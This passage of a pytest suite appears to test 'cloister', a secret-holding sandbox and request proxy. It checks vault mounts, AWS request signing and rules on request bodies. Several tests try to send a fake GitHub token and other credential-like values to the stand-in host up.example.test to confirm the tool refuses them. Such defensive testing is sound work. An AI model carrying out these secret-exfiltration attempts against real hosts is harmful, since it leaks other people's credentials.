    assert not online.lab.seen("echo?wrong")


def test_no_cell_gets_the_vault(online):
    give(online, canary())
    data = Path(online.operator.env["CLOISTER_DATA_DIR"])
    for path in (data, data / "vault", data.parent):
        online.operator.run("-v", f"{path}:/x", "--", "true").sentence("the vault")
    online.operator.run("-w", data, "--", "true").sentence("the vault")
    beside = online.operator.folder("beside")
    online.operator.run("-v", f"{beside}:/x", "--", "true").ok()


STRAY = "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"
# Signs over the body, and does not say its hash: it has to be held.
SIGNED = """
import hashlib, hmac, os, sys, urllib.request
%s
fields = {"host": "up.example.test", "x-amz-date": "20260101T000000Z"}
head = f"AWS4-HMAC-SHA256 Credential={os.environ['AWS_ACCESS_KEY_ID']}/20260101/eu-west-1/execute-api/aws4_request, "
head += "SignedHeaders=host;x-amz-date,"
right = sigv4(os.environ["AWS_SECRET_ACCESS_KEY"], "POST", "/echo", {**fields, "authorization": head},
              sys.argv[1].encode(), "eu-west-1", "execute-api")
request = urllib.request.Request("https://up.example.test/echo", sys.argv[1].encode(), method="POST", headers={
    "x-amz-date": fields["x-amz-date"], "authorization": f"{head} Signature={right}"})
try:
    print(urllib.request.urlopen(request).read().decode())
except urllib.error.HTTPError as e:
    print(e.read().decode())
""" % inspect.getsource(sigv4)


@pytest.mark.parametrize("rule", ["", "    body: {regex: some}\n"])
def test_a_held_body_with_another_credential(online, rule):
    """Held for a signature, for a rule, or for both: the body is searched all the same."""
    real_id = "AKIA" + base64.b32encode(os.urandom(10)).decode()
    online.operator.cloister("secret", "add", "AWS", "--like", "aws", "--host", "up.example.test",
                             input=f"{real_id}\n{canary()[:40]}\n").ok()
    rules = "  - allow: up.example.test\n" + rule
    done = online.python(rules, SIGNED, "some=body", options=("-s", "AWS"))
    assert json.loads(done.ok())["sha256"] == hashlib.sha256(b"some=body").hexdigest()
    assert len(online.lab.seen(real_id)) == 1
    done = online.python(rules, SIGNED, f"some={STRAY}", options=("-s", "AWS"))
    assert "looks like a credential" in done.ok()
    assert online.refusal()["why"] == "secret"
    assert len(online.lab.seen(real_id)) == 1


@pytest.mark.parametrize("options", [(), ("-s", "KEY")])
def test_a_rule_that_turns_out_not_to_fit(online, options):
    """It is the rule behind it that says what the body may carry."""
    give(online, canary())
    rules = ("  - deny: up.example.test\n    body: {regex: forbidden}\n"
             "  - allow: up.example.test\n")
    for body, why in (("forbidden", "rule"), (STRAY, "secret")):
        done = online.curl(rules, "-d", f"some={body}", f"{UP}/echo?unfit", options=options)
        assert json.loads(done.out)["error"] == "refused by cloister"
        assert online.refusal()["why"] == why
    assert not online.lab.seen("echo?unfit")
    assert online.curl(rules, "-d", "some=thing", f"{UP}/echo?fit", options=options).ok()


# ---- being given -------------------------------------------------------------------------

def test_from_the_operators_variable(online):
    real = canary()
    done = online.sh(OPEN, fetch('-H "Authorization: Bearer $KEY"', f"{UP}/echo"),
                     options=("-s", "KEY@up.example.test"), env={**online.operator.env, "KEY": real})
    assert done.ok() and online.lab.seen(real)


def test_in_another_variable(online):
    give(online, canary())
    done = online.sh(OPEN, 'echo "$OTHER"; echo "$KEY"', options=("-s", "KEY=OTHER"))
    first, second = done.out.splitlines()
    assert len(first) == 40 and second == ""


def test_one_that_is_not_there(online):
    policy = online.policy(OPEN)
    online.operator.run("-p", policy, "-s", "NONE", "--", "true").sentence("'NONE'", "secret add")


def test_without_a_policy_it_is_of_no_use(operator):
    operator.run("-s", "KEY@a.example", "--", "true").sentence("needs a policy")
